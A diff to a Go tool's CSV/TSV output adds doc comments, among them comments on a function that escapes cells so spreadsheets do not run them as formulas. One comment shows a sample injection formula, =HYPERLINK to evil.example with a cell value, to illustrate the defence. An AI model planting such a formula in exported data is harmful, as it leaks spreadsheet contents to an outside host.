@@ -15,7 +15,8 @@ import (
 )
 
 // column is a column of the formats csv and tsv. All but file and error have
-// the name of the field in JSON, or of the part of access.
+// the name of the field in JSON, or of the part of access, so that a reader of one form
+// knows the other.
 type column struct {
 	name  string
 	value func(*article.Article) string
@@ -26,6 +27,8 @@ const (
 	errorColumn = "error"
 )
 
+// columns are all columns, in the order of the help. file and error are not read from
+// an article: a page that failed has none.
 var columns = []column{
 	{fileColumn, nil}, {errorColumn, nil},
 	{"url", func(a *article.Article) string { return a.URL }},
@@ -55,8 +58,10 @@ var columns = []column{
 	{"rule", func(a *article.Article) string { return a.Rule.File }},
 }
 
+// defaultFields are the columns without --fields.
 var defaultFields = []string{"file", "url", "title", "authors", "published", "policy", "completeness", "word_count", "error"}
 
+// columnNames are the names that --fields takes.
 func columnNames() []string {
 	names := make([]string, len(columns))
 	for i := range columns {
@@ -65,6 +70,8 @@ func columnNames() []string {
 	return names
 }
 
+// authorNames and its neighbours write lists into one cell. Names hold commas ("Lee,
+// Jr."), so that a semicolon parts them.
 func authorNames(a *article.Article) string {
 	names := make([]string, len(a.Authors))
 	for i := range a.Authors {
@@ -85,6 +92,7 @@ func promoNames(a *article.Article) string {
 	return strings.Join(names, "; ")
 }
 
+// offerNames are the terms of all offers of the page.
 func offerNames(a *article.Article) string {
 	var names []string
 	for i := range a.Promos {
@@ -107,6 +115,7 @@ func tableFormat(cmd *cli.Command, name string) (*format, error) {
 		}
 		t.columns = append(t.columns, columns[c])
 	}
+	// The names as they were given, which are the columns' own.
 	head, err := t.row(names)
 	if err != nil {
 		return nil, err
@@ -114,6 +123,7 @@ func tableFormat(cmd *cli.Command, name string) (*format, error) {
 	return &format{name: name, head: string(head), reports: slices.Contains(names, errorColumn), render: t.render}, nil
 }
 
+// unknownField names the nearest column, or all where none is near.
 func unknownField(cmd *cli.Command, name string) error {
 	if near := nearest(name, columnNames()); near != "" {
 		return usagef(cmd, "--fields: unknown field %q; did you mean %q?", name, near)
@@ -171,7 +181,12 @@ func (t *tableForm) row(cells []string) ([]byte, error) {
 // inert returns a cell that no spreadsheet takes for a formula: one that begins
 // like a formula gets an apostrophe before it, as OWASP advises. What a page says
 // would otherwise run in the hands of whoever opens the table.
+//
+//	=HYPERLINK("https://evil.example/?"&A1)  →  '=HYPERLINK("https://evil.example/?"&A1)
+//	- and that was all                       →  '- and that was all
 func inert(cell string) string {
+	// Spreadsheets pass over white space before a formula; tabs and returns begin one
+	// themselves (OWASP).
 	start := strings.TrimLeft(cell, " \n\u00a0\ufeff")
 	if start == "" || !strings.ContainsAny(start[:1], "=+-@\t\r") && !hasWideSign(start) {
 		return cell
@@ -204,6 +219,7 @@ func offerTerms(o *article.Offer) string {
 	return s
 }
 
+// priceTerms is an amount with its currency and the time that it is for.
 func priceTerms(amount, currency, period string) string {
 	s := strings.TrimSpace(amount + " " + currency)
 	if period != "" {
